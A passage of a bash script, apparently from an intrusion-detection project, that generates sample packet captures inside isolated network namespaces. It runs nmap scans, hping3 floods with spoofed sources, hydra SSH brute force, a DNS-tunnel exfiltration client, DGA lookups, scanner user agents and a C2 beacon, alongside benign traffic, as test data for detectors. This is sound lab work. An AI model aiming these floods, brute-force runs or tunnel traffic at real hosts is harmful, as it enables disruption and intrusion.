#!/usr/bin/env bash
# pcaps/make-pcaps.sh - re-make tapwatch's bundled sample captures from REAL tools.
#
#   sudo pcaps/make-pcaps.sh                 # make every capture
#   sudo pcaps/make-pcaps.sh beacon dns-basic # make only the named ones
#
# All traffic stays inside two network namespaces created here and joined by one
# veth pair (no other interface, no default route, IPv6 off):
#
#   twp-att  "attacker / external"  twp-a 10.77.0.1/24            mac 02:77:00:00:00:01
#   twp-vic  "victim / home"        twp-v 10.77.0.2, .3, .4, .10-.40 /24  mac 02:77:00:00:00:02
#
# Every capture is recorded with tcpdump on twp-v inside twp-vic. Every traffic
# generator is bounded by a count and by `timeout`. Only processes started here are
# stopped (by PID); the namespaces are deleted on exit (trap). Re-running is safe:
# stale twp-* namespaces from an aborted run are removed first and the captures are
# overwritten. See pcaps/README.md for what each capture holds.
set -euo pipefail
export LC_ALL=C

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=${OUT:-$HERE}
ATT=twp-att
VIC=twp-vic
A_IP=10.77.0.1
V_IP=10.77.0.2
V_IP3=10.77.0.3
V_IP4=10.77.0.4
SWEEP_FIRST=10 SWEEP_LAST=40         # extra victim addresses for the ping sweep
SSH_USER=twtest
SSH_PW='TapW4tch-lab-pw'
SEED=7701                            # seeds every "random" choice except payload bytes

if [[ $(id -u) -ne 0 ]]; then echo "run as root" >&2; exit 1; fi

WORK=$(mktemp -d /tmp/twp-pcaps.XXXXXX)
LOG=$WORK/logs
mkdir -p "$LOG"
PIDS=()          # background services started here (killed by PID at exit)
CAP_PID=''
MADE_RUN_SSHD=0
S_NS=(tws-br tws-att tws-ref tws-vic)
S_UP=0 S_READY=0 # the tws-* lab (stealth captures) was set up by this run
LAB_UP=0         # the twp-* lab was set up by this run (only then is it removed at exit)
WD_NETS=0        # the benign-workday lab (twp19-*) is up (set by that capture)

log() { printf '[%(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
na() { ip netns exec "$ATT" "$@"; }
nv() { ip netns exec "$VIC" "$@"; }

cleanup() {
  set +e
  if [[ -n $CAP_PID ]]; then kill -INT "$CAP_PID" 2>/dev/null; wait "$CAP_PID" 2>/dev/null; fi
  local p
  for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null; done
  for p in "${PIDS[@]}"; do wait "$p" 2>/dev/null; done
  if ((LAB_UP)); then ip netns del "$ATT" 2>/dev/null; ip netns del "$VIC" 2>/dev/null; fi
  ((S_UP)) && stealth_down
  if [[ $WD_NETS == 1 ]]; then ip netns del "$WD_C" 2>/dev/null; ip netns del "$WD_S" 2>/dev/null; fi
  if [[ $MADE_RUN_SSHD == 1 ]]; then rmdir /run/sshd 2>/dev/null; fi
  rm -f /tmp/twp-notes.txt       # the file benign-ssh copies with scp
  if [[ ${KEEP_WORK:-0} == 1 ]]; then echo "work dir kept: $WORK" >&2; else rm -rf "$WORK"; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ---------------------------------------------------------------- tools
ensure_tools() {
  local -A pkg=([tcpdump]=tcpdump [nmap]=nmap [dig]=dnsutils [dnsmasq]=dnsmasq-base
    [hping3]=hping3 [sshd]=openssh-server [ssh]=openssh-client [hydra]=hydra [curl]=curl
    [sshpass]=sshpass [ethtool]=ethtool [/usr/bin/python3]=python3 [ip]=iproute2
    [timeout]=coreutils [ssh-keygen]=openssh-client [openssl]=openssl [ptunnel-ng]=ptunnel-ng [ping]=iputils-ping
    [bridge]=iproute2)
  local missing=() t
  for t in "${!pkg[@]}"; do
    command -v "$t" >/dev/null 2>&1 || [[ -x /usr/sbin/$t ]] || missing+=("${pkg[$t]}")
  done
  if ((${#missing[@]})); then
    log "installing: ${missing[*]}"
    export DEBIAN_FRONTEND=noninteractive
    apt-get install -y "${missing[@]}" || { apt-get update && apt-get install -y "${missing[@]}"; }
  fi
}

write_versions() {
  {
    echo "# tool versions used by make-pcaps.sh (written $(date -u +%Y-%m-%dT%H:%M:%SZ))"
    echo "kernel: $(uname -r)"
    echo "os: $(. /etc/os-release; echo "$PRETTY_NAME")"
    echo "tcpdump: $(tcpdump --version 2>&1 | head -1) / $(tcpdump --version 2>&1 | sed -n 2p)"
    echo "nmap: $(nmap --version | head -1)"
    echo "hping3: $(hping3 -v 2>&1 | head -1)"
    echo "hydra: $(hydra -h 2>&1 | head -1 | awk '{print $1, $2}') (libssh $(dpkg-query -W -f '${Version}' libssh-4 2>/dev/null))"
    echo "dig: $(dig -v 2>&1)"
    echo "dnsmasq: $(dnsmasq --version | head -1)"
    echo "sshd/ssh: $(ssh -V 2>&1)"
    echo "sshpass: $(sshpass -V 2>&1 | head -1)"
    echo "curl: $(curl --version | head -1)"
    echo "python3: $(/usr/bin/python3 --version 2>&1)"
    echo "iproute2: $(ip -V)"
    echo "openssl: $(openssl version)"
    echo "ptunnel-ng: $(ptunnel-ng --help 2>&1 | head -1)"
    echo "ping: $(ping -V 2>&1 | head -1)"
    echo "# Debian packages:"
    dpkg-query -W tcpdump libpcap0.8 nmap hping3 hydra libssh-4 bind9-dnsutils dnsmasq-base \
      openssh-server openssh-client sshpass curl python3 iproute2 ethtool openssl ptunnel-ng iputils-ping 2>/dev/null | sed 's/^/  /'

  } >"$OUT/tool-versions.txt"
}

# ---------------------------------------------------------------- network
setup_net() {
  ip netns del "$ATT" 2>/dev/null || true
  ip netns del "$VIC" 2>/dev/null || true
  ip netns add "$ATT"
  ip netns add "$VIC"
  local ns
  for ns in "$ATT" "$VIC"; do
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$ns" link set lo up
  done
  ip link add twp-a netns "$ATT" type veth peer name twp-v netns "$VIC"
  ip -n "$ATT" link set twp-a address 02:77:00:00:00:01
  ip -n "$VIC" link set twp-v address 02:77:00:00:00:02
  # no checksum/segmentation offload: frames on the capture are real wire-size
  # frames with correct checksums
  na ethtool -K twp-a tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  nv ethtool -K twp-v tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
  ip -n "$ATT" addr add $A_IP/24 dev twp-a
  ip -n "$VIC" addr add $V_IP/24 dev twp-v
  ip -n "$VIC" addr add $V_IP3/24 dev twp-v
  ip -n "$VIC" addr add $V_IP4/24 dev twp-v
  local i
  for ((i = SWEEP_FIRST; i <= SWEEP_LAST; i++)); do ip -n "$VIC" addr add 10.77.0.$i/24 dev twp-v; done
  ip -n "$ATT" link set twp-a up
  ip -n "$VIC" link set twp-v up
  # reply to every echo request (the floods must be answered, not rate-limited away)
  nv sysctl -qw net.ipv4.icmp_echo_ignore_all=0
}

# ---------------------------------------------------------------- files
write_helpers() {
  # HTTP server: python's http.server SimpleHTTPRequestHandler, switched to HTTP/1.1 so
  # keep-alive works, plus PUT/POST that read and discard the body (for curl -T).
  cat >"$WORK/srv.py" <<'EOF'
import functools, http.server, sys
class H(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_PUT(self):
        n = int(self.headers.get("Content-Length") or 0)
        while n > 0:
            b = self.rfile.read(min(n, 1 << 16))
            if not b:
                break
            n -= len(b)
        body = b"stored\n"
        self.send_response(201)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_PUT
bind, port, root = sys.argv[1], int(sys.argv[2]), sys.argv[3]
http.server.ThreadingHTTPServer((bind, port), functools.partial(H, directory=root)).serve_forever()
EOF
  # one HTTP request split over two TCP segments, 200 ms apart
  cat >"$WORK/split_client.py" <<'EOF'
import socket, sys, time
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
req = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: tapwatch-split-client/1.0\r\n"
       "Accept: */*\r\nConnection: close\r\n\r\n").encode()
cut = req.index(b"\r\n") + 14          # request line + the start of the Host header
s = socket.create_connection((host, port), timeout=5)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.sendall(req[:cut]); time.sleep(0.2); s.sendall(req[cut:])
data = b""
while True:
    b = s.recv(65536)
    if not b:
        break
    data += b
s.close()
print(data.split(b"\r\n", 1)[0].decode())
EOF
  # DNS tunnel client: a stream of queries whose labels carry base32/hex-encoded
  # random bytes, like iodine/dnscat. Real UDP socket, real answers from dnsmasq.
  cat >"$WORK/dns_tunnel.py" <<'EOF'
import base64, os, random, socket, struct, sys, time
server, domain, count, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
rnd = random.Random(seed)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
sess = "%04x" % rnd.randrange(1 << 16)
for i in range(count):
    data = os.urandom(rnd.randint(24, 48))
    enc = data.hex() if i % 4 == 3 else base64.b32encode(data).decode().rstrip("=").lower()
    enc = "%s%04x" % (sess, i) + enc
    k = -(-len(enc) // 57)                               # labels of <= 57 chars, even split
    step = -(-len(enc) // k)
    labels = [enc[j:j + step] for j in range(0, len(enc), step)]
    qname = ".".join(labels) + "." + domain
    qtype = 1 if i % 3 == 2 else 16                      # A or TXT
    q = struct.pack(">HHHHHH", rnd.randrange(1 << 16), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in qname.split(".")) + b"\0"
    q += struct.pack(">HH", qtype, 1)
    s.sendto(q, (server, 53))
    try:
        s.recv(4096)
    except socket.timeout:
        pass
    time.sleep(0.015 + rnd.random() * 0.02)
EOF
  # DGA-like names (seeded LCG, like real DGAs) plus a few real names
  cat >"$WORK/dga_names.py" <<'EOF'
import sys
seed, count = int(sys.argv[1]), int(sys.argv[2])
tlds = ["com", "net", "org", "info", "biz", "ru", "xyz", "top", "cc", "pw"]
x = seed
def nxt():
    global x
    x = (x * 1103515245 + 12345) & 0x7fffffff
    return x
for i in range(count):
    if i % 25 == 24:
        print(["www.lab.test", "mail.lab.test", "files.lab.test", "app.lab.test"][i // 25 % 4], "A")
        continue
    n = 10 + nxt() % 11
    name = "".join(chr(97 + nxt() % 26) for _ in range(n))
    print("%s.%s" % (name, tlds[nxt() % len(tlds)]), "A")
EOF
  cat >"$WORK/askpass.sh" <<'EOF'
#!/bin/sh
# SSH_ASKPASS helper: answers "wrong" TWP_WRONG times, then the real password
f="$TWP_ASKPASS_STATE"
n=$(cat "$f" 2>/dev/null || echo 0); n=$((n + 1)); echo "$n" >"$f"
if [ "$n" -le "${TWP_WRONG:-0}" ]; then echo "not-the-password-$n"; else echo "$TWP_PW"; fi
EOF
  chmod +x "$WORK/askpass.sh"

  # web roots
  local d
  for d in A B C ext; do mkdir -p "$WORK/www$d"; done
  gen_site "$WORK/wwwA" "Lab intranet (10.77.0.2)"
  gen_site "$WORK/wwwB" "Lab files (10.77.0.3)"
  gen_site "$WORK/wwwC" "Lab app (10.77.0.4)"
  gen_site "$WORK/wwwext" "external host (10.77.0.1)"
  mkdir -p "$WORK/wwwext/api/v1"
  printf '{"task":"sleep","interval":2}\n' >"$WORK/wwwext/api/v1/check"
  printf 'User-agent: *\nDisallow: /admin/\n' >"$WORK/wwwA/robots.txt"
}

gen_site() {
  local root=$1 title=$2 i
  cat >"$root/index.html" <<EOF
<!doctype html><html><head><title>$title</title><link rel="stylesheet" href="/style.css"></head>
<body><h1>$title</h1><p>Sample page served by python http.server for tapwatch test captures.</p>
<ul><li><a href="/about.html">about</a></li><li><a href="/news.html">news</a></li></ul>
<img src="/logo.png" alt="logo"></body></html>
EOF
  printf '<!doctype html><html><body><h1>About</h1><p>%s</p></body></html>\n' "$title" >"$root/about.html"
  printf '<!doctype html><html><body><h1>News</h1><p>Nothing new today.</p></body></html>\n' >"$root/news.html"
  printf 'body{font-family:sans-serif;margin:2em}h1{color:#246}\n' >"$root/style.css"
  head -c 1800 /dev/zero | tr '\0' 'P' >"$root/logo.png"
  mkdir -p "$root/api"
  printf '{"status":"ok","version":"1.4.2"}\n' >"$root/api/status.json"
  for i in 1 2 3; do printf 'item %s\n' "$i" >"$root/api/item$i.json"; done
}

# ---------------------------------------------------------------- services
bg() { # bg NAME NETNS CMD... : start a long-running service in NETNS, remember its PID
  local name=$1 ns=$2; shift 2
  # `ip netns exec` execs the command, so $! is the service itself
  ip netns exec "$ns" "$@" >"$LOG/$name.log" 2>&1 </dev/null &
  PIDS+=("$!")
}

wait_port() { # wait_port NS IP PORT
  local i
  for i in $(seq 1 100); do
    ip netns exec "$1" bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null && return 0
    sleep 0.1
  done
  echo "service $2:$3 did not come up" >&2; return 1
}

start_services() {
  local PY=/usr/bin/python3
  # DNS: dnsmasq answering only from its own records; everything else is local (NXDOMAIN)
  bg dnsmasq "$VIC" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --no-poll \
    --bind-interfaces --listen-address=$V_IP --port=53 --user=root --pid-file= --local-ttl=300 \
    --log-queries --log-facility=- \
    --local=/lab.test/ --local=/exfil.test/ --local=/#/ \
    --host-record=lab.test,$V_IP \
    --host-record=www.lab.test,$V_IP,fd77::2 \
    --host-record=mail.lab.test,$V_IP,fd77::25 \
    --host-record=files.lab.test,$V_IP3 \
    --host-record=app.lab.test,$V_IP4,fd77::4 \
    --host-record=wiki.lab.test,$V_IP3 \
    --host-record=git.lab.test,$V_IP4 \
    --host-record=ntp.lab.test,$V_IP \
    --host-record=printer.lab.test,10.77.0.20 \
    --host-record=gw.lab.test,$A_IP \
    --cname=web.lab.test,www.lab.test \
    --cname=docs.lab.test,wiki.lab.test \
    --mx-host=lab.test,mail.lab.test,10 \
    --txt-record=lab.test,"v=spf1 mx -all" \
    --txt-record=_info.lab.test,"tapwatch lab zone","owner=netops"
  # HTTP servers (victim side = home), and the "external" server on the attacker side
  bg httpA "$VIC" $PY "$WORK/srv.py" $V_IP 80 "$WORK/wwwA"
  bg httpA8080 "$VIC" $PY "$WORK/srv.py" $V_IP 8080 "$WORK/wwwA"
  bg httpB "$VIC" $PY "$WORK/srv.py" $V_IP3 80 "$WORK/wwwB"
  bg httpC "$VIC" $PY "$WORK/srv.py" $V_IP4 8080 "$WORK/wwwC"
  bg httpExt "$ATT" $PY "$WORK/srv.py" $A_IP 8080 "$WORK/wwwext"
  # sshd with its own config and host keys
  local sd=$WORK/sshd
  mkdir -p "$sd"
  ssh-keygen -q -t ed25519 -N '' -f "$sd/host_ed25519" -C twp-lab
  ssh-keygen -q -t ecdsa -N '' -f "$sd/host_ecdsa" -C twp-lab
  ssh-keygen -q -t rsa -b 2048 -N '' -f "$sd/host_rsa" -C twp-lab
  cat >"$sd/sshd_config" <<EOF
ListenAddress $V_IP:22
HostKey $sd/host_ed25519
HostKey $sd/host_ecdsa
HostKey $sd/host_rsa
PidFile $sd/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
AuthorizedKeysFile none
PermitRootLogin no
PermitEmptyPasswords no
AllowUsers $SSH_USER
UsePAM no
MaxAuthTries 6
MaxStartups 200:30:400
MaxSessions 20
LoginGraceTime 30
UseDNS no
PrintMotd no
PrintLastLog no
StrictModes no
LogLevel VERBOSE
Subsystem sftp internal-sftp
EOF
  # PerSourcePenalties exists from OpenSSH 9.8 on; turn it off where it exists
  if /usr/sbin/sshd -T -f "$sd/sshd_config" -o PerSourcePenalties=no >/dev/null 2>&1; then
    echo 'PerSourcePenalties no' >>"$sd/sshd_config"
  fi
  if [[ ! -d /run/sshd ]]; then mkdir -p /run/sshd; chmod 755 /run/sshd; MADE_RUN_SSHD=1; fi
  /usr/sbin/sshd -t -f "$sd/sshd_config"
  bg sshd "$VIC" /usr/sbin/sshd -D -e -f "$sd/sshd_config"

  wait_port "$VIC" $V_IP 53
  wait_port "$VIC" $V_IP 80
  wait_port "$VIC" $V_IP 8080
  wait_port "$VIC" $V_IP3 80
  wait_port "$VIC" $V_IP4 8080
  wait_port "$ATT" $A_IP 8080
  wait_port "$VIC" $V_IP 22
}

ensure_user() {
  if ! id "$SSH_USER" >/dev/null 2>&1; then
    useradd -m -s /bin/bash -c "tapwatch capture test user" "$SSH_USER"
  fi
  echo "$SSH_USER:$SSH_PW" | chpasswd
}

# ---------------------------------------------------------------- capture
CAP_NAME='' CAP_FILE=''
cap_start() { # cap_start NAME SNAPLEN
  CAP_NAME=$1
  CAP_FILE=$WORK/$1.pcap
  log "capture $1 (snaplen $2)"
  ip netns exec "$VIC" tcpdump -i twp-v -s "$2" -U -n -Z root -w "$CAP_FILE" >"$LOG/tcpdump-$1.log" 2>&1 &
  CAP_PID=$!
  local i
  for i in $(seq 1 100); do
    grep -qs 'listening on' "$LOG/tcpdump-$1.log" && break
    sleep 0.05
  done
  grep -qs 'listening on' "$LOG/tcpdump-$1.log" || { echo "tcpdump did not start" >&2; exit 1; }
  sleep 0.5
}

cap_stop() {
  sleep 1
  kill -INT "$CAP_PID"
  wait "$CAP_PID" || true
  CAP_PID=''
  mv -f "$CAP_FILE" "$OUT/$CAP_NAME.pcap"
  log "  -> $OUT/$CAP_NAME.pcap: $(tcpdump -nr "$OUT/$CAP_NAME.pcap" 2>/dev/null | wc -l) packets, $(stat -c %s "$OUT/$CAP_NAME.pcap") bytes"
  sleep 1
}

DIG=(dig @$V_IP +tries=1 +time=2)
SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
  -o PubkeyAuthentication=no -o PreferredAuthentications=password
  -o NumberOfPasswordPrompts=3 -o ConnectTimeout=5 -o LogLevel=ERROR)
UA_FIREFOX='Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0'

# ---------------------------------------------------------------- foundation
cap_dns-basic() {
  cap_start dns-basic 0
  {
    na timeout 10 "${DIG[@]}" www.lab.test A
    na timeout 10 "${DIG[@]}" www.lab.test AAAA
    na timeout 10 "${DIG[@]}" lab.test MX
    na timeout 10 "${DIG[@]}" lab.test TXT
    na timeout 10 "${DIG[@]}" web.lab.test A          # CNAME -> www.lab.test
    na timeout 10 "${DIG[@]}" nosuchhost.lab.test A   # NXDOMAIN
    na timeout 10 "${DIG[@]}" +tcp mail.lab.test A    # over TCP
  } >"$LOG/dns-basic.out" 2>&1
  cap_stop
}

cap_http-basic() {
  local u=http://$V_IP
  cap_start http-basic 0
  {
    na timeout 10 curl -sS -o /dev/null -w '%{http_code}\n' $u/
    sleep 0.3
    # three requests on one keep-alive connection
    na timeout 10 curl -sS -o /dev/null -o /dev/null -o /dev/null -w '%{http_code} %{num_connects}\n' \
      $u/index.html $u/style.css $u/about.html
    sleep 0.3
    na timeout 10 curl -sS -o /dev/null -w '%{http_code}\n' $u/no/such/page.html   # 404
    sleep 0.3
    na timeout 10 curl -sS -o /dev/null -w '%{http_code}\n' -A 'TapwatchLabClient/2.1 (custom; +http://lab.test/ua)' $u/robots.txt
    sleep 0.3
    na timeout 10 curl -sS -I -w '%{http_code}\n' $u/api/status.json                # HEAD
    sleep 0.3
    na timeout 10 /usr/bin/python3 "$WORK/split_client.py" $V_IP 80 /news.html      # split request
  } >"$LOG/http-basic.out" 2>&1
  cap_stop
}

cap_http-snaplen-keepalive() {
  # tcpdump -s 128: every request's and response's header block is cut by the snap length
  # (66 bytes of Ethernet/IP/TCP headers leave 62 bytes of HTTP). Six requests on one
  # keep-alive connection (the 404 last: http.server closes after it), then two on
  # another with Nikto's User-Agent (robots.txt, then /admin/).
  local u=http://$V_IP
  cap_start http-snaplen-keepalive 128
  {
    na timeout 10 curl -sS -A "$UA_FIREFOX" -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
      -w '%{http_code} %{num_connects}\n' \
      $u/ $u/index.html $u/style.css $u/about.html $u/news.html $u/no/such/page.html
    sleep 0.3
    na timeout 10 curl -sS -A 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' -o /dev/null -o /dev/null \
      -w '%{http_code} %{num_connects}\n' $u/robots.txt $u/admin/
  } >"$LOG/http-snaplen-keepalive.out" 2>&1
  cap_stop
}

ssh_askpass() { # ssh_askpass WRONG_COUNT CMD...  (ssh/scp with passwords from askpass.sh)
  local wrong=$1; shift
  rm -f "$WORK/askpass.state"
  TWP_ASKPASS_STATE=$WORK/askpass.state TWP_WRONG=$wrong TWP_PW=$SSH_PW \
    SSH_ASKPASS=$WORK/askpass.sh SSH_ASKPASS_REQUIRE=force DISPLAY=:0 \
    na timeout 30 setsid -w "$@" </dev/null
}

cap_ssh-login() {
  cap_start ssh-login 0
  {
    # 1) right password first time, run a command
    na timeout 30 sshpass -p "$SSH_PW" ssh "${SSH_OPTS[@]}" $SSH_USER@$V_IP 'id; uname -sr; echo done' </dev/null
    sleep 1
    # 2) wrong password, then the right one, on the same connection
    ssh_askpass 1 ssh "${SSH_OPTS[@]}" $SSH_USER@$V_IP 'hostname; echo second-session'
  } >"$LOG/ssh-login.out" 2>&1
  cap_stop
}

# ---------------------------------------------------------------- attacks
cap_nmap-syn-scan() {
  cap_start nmap-syn-scan 200
  na timeout 120 nmap -n -sS -p 1-1000 -T4 $V_IP >"$LOG/nmap-syn.out" 2>&1 || true
  cap_stop
}

cap_nmap-connect-scan() {
  cap_start nmap-connect-scan 200
  na timeout 120 nmap -n -sT -p 1-500 -T4 $V_IP >"$LOG/nmap-connect.out" 2>&1 || true
  cap_stop
}

cap_nmap-udp-scan() {
  cap_start nmap-udp-scan 200
  na timeout 240 nmap -n -sU -p 1-100 --max-retries 1 -T4 $V_IP >"$LOG/nmap-udp.out" 2>&1 || true
  cap_stop
}

cap_nmap-ping-sweep() {
  # .10-.40 exist on the victim side (31 hosts up), .41-.50 do not (ARP goes unanswered)
  cap_start nmap-ping-sweep 200
  na timeout 120 nmap -n -sn -PE --send-ip 10.77.0.$SWEEP_FIRST-50 >"$LOG/nmap-sweep.out" 2>&1 || true
  cap_stop
}

cap_nmap-slow-scan() {
  cap_start nmap-slow-scan 200
  na timeout 300 nmap -n -sS -T2 -p 1-60 $V_IP >"$LOG/nmap-slow.out" 2>&1 || true
  cap_stop
}

cap_hping3-syn-flood() {
  cap_start hping3-syn-flood 96
  na timeout 30 hping3 -I twp-a -S -p 80 -c 3000 -i u200 --rand-source $V_IP >"$LOG/hping-syn.out" 2>&1 || true
  cap_stop
}

cap_hping3-icmp-flood() {
  cap_start hping3-icmp-flood 96
  na timeout 30 hping3 -I twp-a -1 -c 3000 -i u200 $V_IP >"$LOG/hping-icmp.out" 2>&1 || true
  cap_stop
}

# N wrong passwords from nmap's passwords.lst (never the real one)
wrong_passwords() {
  awk -v pw="$SSH_PW" -v n="$1" '!/^#/ && NF && $0 != pw { print; if (++c >= n) exit }' \
    /usr/share/nmap/nselib/data/passwords.lst
}

run_hydra() { # run_hydra LISTFILE OUTNAME
  (cd "$WORK" && na timeout 300 hydra -I -l $SSH_USER -P "$1" -t 4 -o "$LOG/$2.found" ssh://$V_IP) \
    >"$LOG/$2.out" 2>&1 || true
}

cap_ssh-bruteforce-fail() {
  wrong_passwords 40 >"$WORK/pw-fail.lst"
  cap_start ssh-bruteforce-fail 0
  run_hydra "$WORK/pw-fail.lst" hydra-fail
  cap_stop
}

cap_ssh-bruteforce-success() {
  { wrong_passwords 75 | tail -n 35; echo "$SSH_PW"; } >"$WORK/pw-success.lst"
  cap_start ssh-bruteforce-success 0
  run_hydra "$WORK/pw-success.lst" hydra-success
  cap_stop
}

cap_dns-tunnel() {
  cap_start dns-tunnel 0
  na timeout 60 /usr/bin/python3 "$WORK/dns_tunnel.py" $V_IP t.exfil.test 300 $SEED >"$LOG/dns-tunnel.out" 2>&1 || true
  cap_stop
}

cap_dns-nxdomain-burst() {
  /usr/bin/python3 "$WORK/dga_names.py" $SEED 200 |
    while read -r name type; do echo "@$V_IP +tries=1 +time=1 +noall +comments $name $type"; done >"$WORK/dga.batch"
  cap_start dns-nxdomain-burst 0
  na timeout 60 dig -f "$WORK/dga.batch" >"$LOG/dga.out" 2>&1 || true
  cap_stop
}

cap_http-path-scan() {
  # 300 distinct paths: nmap's http-folders.txt wordlist plus a few that exist
  {
    printf '%s\n' / /index.html /robots.txt /about.html /api/status.json
    grep -E '^/[A-Za-z0-9._/~-]+$' /usr/share/nmap/nselib/data/http-folders.txt
  } | awk '!seen[$0]++ && ++n <= 300' >"$WORK/paths.lst"
  local uas=('Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000%03d)'
    'sqlmap/1.7#stable (https://sqlmap.org)'
    'Mozilla/5.0 (compatible; lab-dirscan/0.9)')
  local batch=0 urls=() p
  cap_start http-path-scan 384
  while mapfile -t -n 20 chunk && ((${#chunk[@]})); do
    urls=()
    for p in "${chunk[@]}"; do urls+=(-o /dev/null "http://$V_IP$p"); done
    # shellcheck disable=SC2059
    na timeout 30 curl -s -w '%{http_code} %{url_effective}\n' \
      -A "$(printf "${uas[batch % 3]}" $((batch + 1)))" "${urls[@]}" </dev/null >>"$LOG/http-scan.out" 2>&1 || true
    batch=$((batch + 1))
  done <"$WORK/paths.lst"
  cap_stop
}

cap_large-upload() {
  # home = victim side (10.77.0.2) uploads ~30 MB to the "external" host 10.77.0.1.
  # The link runs with a 9000-byte (jumbo) MTU for this capture only, to keep it small.
  head -c $((30 * 1024 * 1024)) /dev/urandom >"$WORK/upload.bin"
  ip -n "$ATT" link set twp-a mtu 9000
  ip -n "$VIC" link set twp-v mtu 9000
  local e=http://$A_IP:8080
  cap_start large-upload 96
  {
    # baseline: a few small exchanges with the same external host
    nv timeout 10 curl -sS -o /dev/null -w '%{http_code}\n' $e/
    sleep 1
    nv timeout 10 curl -sS -o /dev/null -w '%{http_code}\n' $e/api/status.json
    sleep 1
    head -c 2048 /dev/urandom | nv timeout 10 curl -sS -o /dev/null -w '%{http_code}\n' -T - $e/upload/small.bin
    sleep 1
    nv timeout 10 curl -sS -o /dev/null -w '%{http_code}\n' $e/about.html
    sleep 1
    # the big one
    nv timeout 120 curl -sS -o /dev/null -w '%{http_code} %{size_upload} %{time_total}\n' \
      -T "$WORK/upload.bin" $e/upload/backup-2024.tar.gz
  } >"$LOG/large-upload.out" 2>&1
  cap_stop
  ip -n "$ATT" link set twp-a mtu 1500
  ip -n "$VIC" link set twp-v mtu 1500
  rm -f "$WORK/upload.bin"
}

cap_beacon() {
  # infected home host 10.77.0.2 polls the "C2" at 10.77.0.1:8080 every 2 s +-0.1 s
  local i jit; RANDOM=$SEED
  cap_start beacon 512
  for ((i = 1; i <= 45; i++)); do
    nv timeout 5 curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)' \
      "http://$A_IP:8080/api/v1/check?id=4f1c9a&seq=$i" >>"$LOG/beacon.out" 2>&1 || true
    jit=$((RANDOM % 200))
    sleep "$(printf '%d.%03d' $(((1900 + jit) / 1000)) $(((1900 + jit) % 1000)))"
  done
  cap_stop
}

# ---------------------------------------------------------------- benign
cap_benign-browsing() {
  cap_start benign-browsing 0
  {
    na timeout 10 curl -sS -A "$UA_FIREFOX" -o /dev/null -o /dev/null -o /dev/null \
      http://$V_IP/ http://$V_IP/style.css http://$V_IP/logo.png
    sleep 2.5
    na timeout 10 curl -sS -A "$UA_FIREFOX" -o /dev/null http://$V_IP/about.html
    sleep 1.7
    na timeout 10 curl -sS -A "$UA_FIREFOX" -o /dev/null -o /dev/null -o /dev/null \
      http://$V_IP3/ http://$V_IP3/style.css http://$V_IP3/logo.png
    sleep 3.1
    na timeout 10 curl -sS -A "$UA_FIREFOX" -o /dev/null http://$V_IP3/news.html
    sleep 1.2
    na timeout 10 curl -sS -A "$UA_FIREFOX" -o /dev/null -o /dev/null \
      http://$V_IP4:8080/ http://$V_IP4:8080/api/status.json
    sleep 2.2
    na timeout 10 curl -sS -A "$UA_FIREFOX" -o /dev/null http://$V_IP/news.html
  } >"$LOG/benign-browsing.out" 2>&1
  cap_stop
}

cap_benign-dns() {
  local q names=(
    "www.lab.test A" "mail.lab.test A" "lab.test MX" "files.lab.test A" "www.lab.test AAAA"
    "app.lab.test A" "wiki.lab.test A" "web.lab.test A" "git.lab.test A" "ntp.lab.test A"
    "lab.test TXT" "docs.lab.test A" "app.lab.test AAAA" "printer.lab.test A" "gw.lab.test A"
    "www.lab.test A" "mail.lab.test AAAA" "_info.lab.test TXT" "files.lab.test A" "lab.test A")
  RANDOM=$SEED
  cap_start benign-dns 0
  for q in "${names[@]}"; do
    # shellcheck disable=SC2086
    na timeout 10 "${DIG[@]}" $q >>"$LOG/benign-dns.out" 2>&1 || true
    sleep "0.$((3 + RANDOM % 5))"
  done
  cap_stop
}

cap_benign-ssh() {
  printf 'config line %s\n' $(seq 1 40) >"$WORK/notes.txt"
  cap_start benign-ssh 0
  {
    na timeout 30 sshpass -p "$SSH_PW" ssh "${SSH_OPTS[@]}" $SSH_USER@$V_IP \
      'uptime; df -h / | tail -1; ls -la ~ | head -5; cat /etc/os-release | head -2' </dev/null
    sleep 1
    na timeout 30 sshpass -p "$SSH_PW" scp "${SSH_OPTS[@]}" "$WORK/notes.txt" $SSH_USER@$V_IP:/tmp/twp-notes.txt </dev/null
  } >"$LOG/benign-ssh.out" 2>&1
  cap_stop
}

cap_benign-busy() {
  # 20 rounds x (5 keep-alive requests to 10.77.0.2 + 5 to 10.77.0.3) = 200 requests,
  # random 0.4-1.6 s pauses (not periodic), a DNS lookup now and then. No errors.
  local r i urlsA=() urlsB=() outs=(); RANDOM=$SEED
  local pages=(/ /style.css /logo.png /api/status.json /api/item1.json /api/item2.json /api/item3.json /about.html /news.html)
  cap_start benign-busy 512
  for ((r = 0; r < 20; r++)); do
    urlsA=() urlsB=() outs=()
    for ((i = 0; i < 5; i++)); do
